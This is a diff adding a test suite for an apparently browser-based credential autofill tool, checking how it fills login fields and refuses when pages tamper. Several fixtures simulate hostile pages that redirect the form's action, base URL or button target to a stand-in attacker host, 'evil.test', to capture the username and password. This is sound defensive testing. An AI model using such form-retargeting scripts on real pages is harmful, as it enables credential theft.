@@ -1,0 +1,173 @@
+// What is written into a page, in a real Chromium: as a user would, into what was described alone, and taken back out
+// when it does not work.
+
+import assert from 'node:assert/strict';
+import {after, before, describe, test} from 'node:test';
+
+import {startPageWorld} from './page_world.js';
+
+/** @type {Awaited<ReturnType<typeof startPageWorld>>} */ let world;
+before(async () => { world = await startPageWorld(); });
+after(() => world?.stop());
+
+const FORM = '<form id="f" action="/in" method="post"><input id="user" name="user"><input id="password" type="password"><button id="go">Log in</button></form>';
+// Keeps the page, and counts what would have been sent.
+const COUNTED = '<script>globalThis.sent = []; addEventListener("submit", (event) => { event.preventDefault(); sent.push([...document.querySelectorAll("input")].map((input) => input.value)); });</script>';
+const BOTH = {user: 'zilla', password: 'pass word'};
+const sent = () => world.page.evaluate(() => globalThis.sent);
+
+describe('filling', () => {
+  test('writes all values, then presses the control', async () => {
+    await world.show(FORM + COUNTED);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
+  });
+
+  test('fires what a user\'s typing fires, in order', async () => {
+    await world.show(`${FORM}<script>
+      globalThis.events = [];
+      for (const type of ['focus', 'beforeinput', 'input', 'change', 'blur']) user.addEventListener(type, () => events.push(type));
+      for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) go.addEventListener(type, () => events.push(type));
+    </script>${COUNTED}`);
+    await world.fill({user: 'zilla'}, {click: 'go'});
+    const events = await world.page.evaluate(() => globalThis.events);
+    assert.deepEqual(events.filter((type) => type !== 'blur'), ['focus', 'beforeinput', 'input', 'change', 'pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']);
+    assert.ok(events.includes('blur'));
+  });
+
+  test('is accepted by an input that a framework controls', async () => {
+    // As React does it: a setter on the element remembers the value, an input event with the remembered value is ignored,
+    // and what state does not hold is put back.
+    await world.show(`${FORM}<script>
+      let remembered = '', state = '';
+      const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
+      Object.defineProperty(user, 'value', {get() { return own.get.call(this); }, set(value) { remembered = value; own.set.call(this, value); }, configurable: true});
+      user.addEventListener('input', () => { const now = own.get.call(user); if (now !== remembered) { remembered = now; state = now; } own.set.call(user, state); });
+    </script>${COUNTED}`);
+    assert.equal(await world.fill({user: 'zilla'}, {click: 'go'}), 'submitted');
+    assert.equal(await world.valueOf('user'), 'zilla');
+  });
+
+  test('writes a code into boxes that move the focus themselves', async () => {
+    const boxes = Array.from({length: 6}, (_, index) => `<input id="b${index}" maxlength="1">`).join('');
+    await world.show(`<form>${boxes}<button id="go">Verify</button></form><script>
+      for (const box of document.querySelectorAll('input')) box.addEventListener('input', () => box.nextElementSibling?.focus());
+    </script>${COUNTED}`);
+    const digits = Object.fromEntries([...'012345'].map((digit, index) => [`b${index}`, digit]));
+    assert.equal(await world.fill(digits, {click: 'go'}), 'submitted');
+    assert.deepEqual(await sent(), [[...'012345']]);
+  });
+
+  test('waits for a control that is enabled by the input', async () => {
+    await world.show(`${FORM}<script>go.disabled = true; user.addEventListener('input', () => setTimeout(() => { go.disabled = false; }, 50));</script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+    assert.equal((await sent()).length, 1);
+  });
+
+  test('presses Enter as browsers take it: the form\'s button, or the form', async () => {
+    await world.show(FORM + COUNTED);
+    assert.equal(await world.fill(BOTH, {enter: 'password'}), 'submitted');
+    assert.equal((await sent()).length, 1);
+    await world.show(`<form><input id="user"></form>${COUNTED}`);
+    assert.equal(await world.fill({user: 'zilla'}, {enter: 'user'}), 'submitted');
+    assert.deepEqual(await sent(), [['zilla']]);
+  });
+
+  test('leaves Enter to a page that takes it itself', async () => {
+    await world.show(`${FORM}<script>password.addEventListener('keydown', (event) => { if (event.key === 'Enter') { event.preventDefault(); globalThis.own = password.value; } });</script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {enter: 'password'}), 'submitted');
+    assert.equal(await world.page.evaluate(() => globalThis.own), 'pass word');
+    assert.deepEqual(await sent(), []);
+  });
+
+  test('scrolls to a field that is out of view', async () => {
+    await world.show(`<div style="height:4000px"></div>${FORM}${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+  });
+
+  test('opens a field that is writable only with the focus', async () => {
+    await world.show(`${FORM}<script>user.readOnly = true; user.addEventListener('focus', () => { user.readOnly = false; });</script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+  });
+});
+
+describe('nothing is written', () => {
+  // What the page does between the description and the fill, and what is reported.
+  const changes = {
+    'into a field that is gone': ['user.remove()', 'field_gone'],
+    'when the control is gone': ['go.remove()', 'field_gone'],
+    'into a field that was replaced': ['user.replaceWith(user.cloneNode())', 'field_gone'],
+    'into a field that was hidden': ['password.style.opacity = 0', 'field_hidden'],
+    'into a field that was moved away': ['password.style.cssText = "position:absolute;left:-9999px"', 'field_hidden'],
+    'into a field that was covered': ['document.body.append(Object.assign(document.createElement("div"), {style: "position:fixed;inset:0;background:#fff"}))', 'field_hidden'],
+    'into a field that was disabled': ['password.disabled = true', 'field_hidden'],
+    'into a form with another target': ['f.action = "https://evil.test/"', 'target_changed'],
+    'under another base': ['document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))', 'target_changed'],
+    'before a control with another target': ['go.formAction = "https://evil.test/"', 'target_changed'],
+    'into a field that was moved to another form': ['document.body.append(Object.assign(document.createElement("form"), {id: "g", action: "https://evil.test/"})); user.setAttribute("form", "g")', 'target_changed'],
+  };
+  for (const [what, [script, result]] of Object.entries(changes)) {
+    test(what, async () => {
+      await world.show(`${FORM}<script>
+        globalThis.inputs = 0; addEventListener('input', () => { inputs += 1; });
+        globalThis.beforeFill = () => { ${script} };
+      </script>${COUNTED}`);
+      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
+      assert.equal(await world.page.evaluate(() => globalThis.inputs), 0);
+      assert.deepEqual(await sent(), []);
+    });
+  }
+});
+
+describe('what was written is taken back out', () => {
+  const refusals = {
+    'when the page does not keep it': ['password.addEventListener("input", () => { password.value = ""; })', 'not_kept'],
+    'when the page changes another field on the way': ['password.addEventListener("input", () => { user.value = "other"; })', 'not_kept'],
+    'when the form\'s target changes at the focus': ['password.addEventListener("focus", () => { f.action = "https://evil.test/"; })', 'target_changed'],
+    'when the form\'s target changes at the input': ['password.addEventListener("input", () => { f.action = "https://evil.test/"; })', 'target_changed'],
+    'when the control is never enabled': ['go.disabled = true', 'not_kept'],
+    'when a field goes away at the input': ['password.addEventListener("input", () => user.remove())', 'field_gone'],
+  };
+  for (const [what, [script, result]] of Object.entries(refusals)) {
+    test(what, async () => {
+      await world.show(`${FORM}<script>${script}</script>${COUNTED}`);
+      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
+      assert.equal(await world.valueOf('password'), '');
+      assert.notEqual(await world.page.evaluate(() => document.getElementById('user')?.value), 'zilla');
+      assert.deepEqual(await sent(), []);
+    });
+  }
+
+  // The form is really submitted here: what it sends, and where to, is what counts.
+  for (const type of ['pointerdown', 'mousedown', 'click', 'submit']) {
+    test(`when the form's target changes at the ${type}, and nothing is sent`, async () => {
+      await world.show(`${FORM}<script>addEventListener('${type}', () => { f.action = 'https://evil.test/'; }, true);</script>`);
+      assert.equal(await world.fill(BOTH, {click: 'go'}), 'target_changed');
+      assert.equal(await world.valueOf('password'), '');
+      assert.deepEqual(world.posted(), []);
+    });
+  }
+
+  test('a form whose target stays is sent there', async () => {
+    await world.show(FORM);
+    await Promise.all([world.page.waitForNavigation(), world.fill(BOTH, {click: 'go'}).catch(() => {})]);
+    assert.deepEqual(world.posted(), ['https://app.test/in']);
+  });
+
+  test('afterwards, when nothing came of it; what stood there before is back', async () => {
+    await world.show('<input id="user" value="before"><input id="password" type="password"><div role="button" id="go">Log in</div>');
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+    await world.page.evaluate(() => cerby.takeBack());
+    assert.deepEqual([await world.valueOf('user'), await world.valueOf('password')], ['before', '']);
+  });
+
+  test('but not what the user has typed meanwhile', async () => {
+    await world.show('<input id="user"><div role="button" id="go">Log in</div>');
+    await world.fill({user: 'zilla'}, {click: 'go'});
+    await world.page.evaluate(() => {
+      document.getElementById('user').value = 'typed';
+      cerby.takeBack();
+    });
+    assert.equal(await world.valueOf('user'), 'typed');
+  });
+});
